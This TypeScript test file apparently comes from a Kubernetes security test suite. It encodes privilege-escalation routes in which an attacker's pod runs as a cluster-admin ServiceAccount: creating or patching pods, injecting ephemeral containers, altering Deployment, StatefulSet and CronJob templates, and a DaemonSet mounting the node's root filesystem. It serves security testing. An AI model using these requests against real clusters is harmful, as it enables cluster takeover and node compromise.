// Ways through what runs: pods act as their ServiceAccount, and whoever writes a pod, or what becomes one, chooses it.
import { expect } from 'chai';
import { z } from 'zod';
import { until } from '../../guards/cluster.ts';
import { answered, BOSS, type Trial, type Way } from './setting.ts';

const podsSchema = z.object({
  items: z.array(
    z.looseObject({
      metadata: z.looseObject({ name: z.string() }),
      spec: z.looseObject({ serviceAccountName: z.string() }),
    }),
  ),
});

const attackers = { name: 'main', image: "attacker's" };
const labels = { app: 'web' };

/** A pod's template with the attacker's image, as the ServiceAccount that is cluster admin. */
const template = (more: object = {}) => ({
  metadata: { labels },
  spec: { serviceAccountName: BOSS, containers: [attackers], ...more },
});

/** A pod of the admin's own, as that ServiceAccount, on the node. */
async function podOfBoss({ root, namespace, nodeName }: Way): Promise<{ path: string; pod: unknown }> {
  const path = `/api/v1/namespaces/${namespace}/pods`;
  const spec = { nodeName, serviceAccountName: BOSS, containers: [{ name: 'main', image: "admin's" }] };
  const pod = await answered(root, { method: 'POST', path, body: { metadata: { name: 'theirs' }, spec } });
  return { path: `${path}/theirs`, pod };
}

/** Waits for the pod that a controller makes from the attacker's template, and goes inside. */
async function insideMade({ root, namespace, insideOf }: Way, wanted: (pod: unknown) => boolean = () => true) {
  const ofBoss = (body: unknown) =>
    (podsSchema.safeParse(body).data?.items ?? []).filter((pod) => pod.spec.serviceAccountName === BOSS && wanted(pod));
  const path = `/api/v1/namespaces/${namespace}/pods`;
  const { body } = await until(root, { method: 'GET', path }, (answer) => ofBoss(answer.body).length > 0);
  const [pod] = ofBoss(body);
  return insideOf(pod);
}

export const workloads: Record<string, Trial> = {
  'create a pod as another ServiceAccount': async ({ attacker, namespace, insideOf }) => {
    const path = `/api/v1/namespaces/${namespace}/pods`;
    return insideOf(
      await answered(attacker, { method: 'POST', path, body: { metadata: { name: 'mine' }, spec: template().spec } }),
    );
  },

  "change a running pod's image": async (way) => {
    const { path } = await podOfBoss(way);
    const body = [{ op: 'replace', path: '/spec/containers/0/image', value: attackers.image }];
    const patched = await answered(way.attacker, { method: 'PATCH', patchType: 'json', path, body });
    const { spec } = z
      .object({ spec: z.object({ containers: z.array(z.object({ image: z.string() })) }) })
      .parse(patched);
    expect(spec.containers[0]?.image).to.equal(attackers.image);
    return way.insideOf(patched);
  },

  'put a container into a running pod': async (way) => {
    const { path } = await podOfBoss(way);
    const spec = { ephemeralContainers: [{ ...attackers, name: 'debugger' }] };
    const body = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'theirs', namespace: way.namespace }, spec };
    const changed = await answered(way.attacker, { method: 'PUT', path: `${path}/ephemeralcontainers`, body });
    expect(JSON.stringify(changed)).to.contain('"debugger"');
    return way.insideOf(changed);
  },

  'change the template of a Deployment': async (way) => {
    const path = `/apis/apps/v1/namespaces/${way.namespace}/deployments`;
    const theirs = { metadata: { labels }, spec: { containers: [{ name: 'main', image: "admin's" }] } };
    const spec = { replicas: 1, selector: { matchLabels: labels }, template: theirs };
    await answered(way.root, { method: 'POST', path, body: { metadata: { name: 'web' }, spec } });
    await answered(way.attacker, { method: 'PATCH', path: `${path}/web`, body: { spec: { template: template() } } });
    return insideMade(way);
  },

  'create a DaemonSet, which runs on every node': async (way) => {
    const path = `/apis/apps/v1/namespaces/${way.namespace}/daemonsets`;
    const volumes = [{ name: 'node', hostPath: { path: '/' } }];
    const spec = {
      selector: { matchLabels: labels },
      template: template({ volumes, tolerations: [{ operator: 'Exists' }] }),
    };
    await answered(way.attacker, { method: 'POST', path, body: { metadata: { name: 'mine' }, spec } });
    return insideMade(way, (pod) => JSON.stringify(pod).includes(`"values":["${way.nodeName}"]`));
  },

  'change a StatefulSet': async (way) => {
    const path = `/apis/apps/v1/namespaces/${way.namespace}/statefulsets`;
    const theirs = { metadata: { labels }, spec: { containers: [{ name: 'main', image: "admin's" }] } };
    const set = (replicas: number, of: object) => ({
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'db' },
      spec: { replicas, serviceName: 'db', selector: { matchLabels: labels }, template: of },
    });
    await answered(way.root, { method: 'POST', path, body: set(0, theirs) });
    await answered(way.attacker, { method: 'PUT', path: `${path}/db`, body: set(1, template()) });
    return insideMade(way);
  },

  'create a ReplicationController': async (way) => {
    const path = `/api/v1/namespaces/${way.namespace}/replicationcontrollers`;
    const spec = { replicas: 1, selector: labels, template: template() };
    await answered(way.attacker, { method: 'POST', path, body: { metadata: { name: 'mine' }, spec } });
    return insideMade(way);
  },

  'create a Job as another ServiceAccount': async (way) => {
    const path = `/apis/batch/v1/namespaces/${way.namespace}/jobs`;
    const spec = { template: template({ restartPolicy: 'Never' }) };
    await answered(way.attacker, { method: 'POST', path, body: { metadata: { name: 'mine' }, spec } });
    return insideMade(way);
  },

  'change what a CronJob runs': async (way) => {
    const path = `/apis/batch/v1/namespaces/${way.namespace}/cronjobs`;
    const theirs = { spec: { restartPolicy: 'Never', containers: [{ name: 'main', image: "admin's" }] } };
    const body = {
      metadata: { name: 'nightly' },
      spec: { schedule: '0 3 * * *', jobTemplate: { spec: { template: theirs } } },
    };
    await answered(way.root, { method: 'POST', path, body });
    const spec = { schedule: '@every 1s', jobTemplate: { spec: { template: template({ restartPolicy: 'Never' }) } } };
    await answered(way.attacker, { method: 'PATCH', path: `${path}/nightly`, body: { spec } });
    return insideMade(way);
  },
};
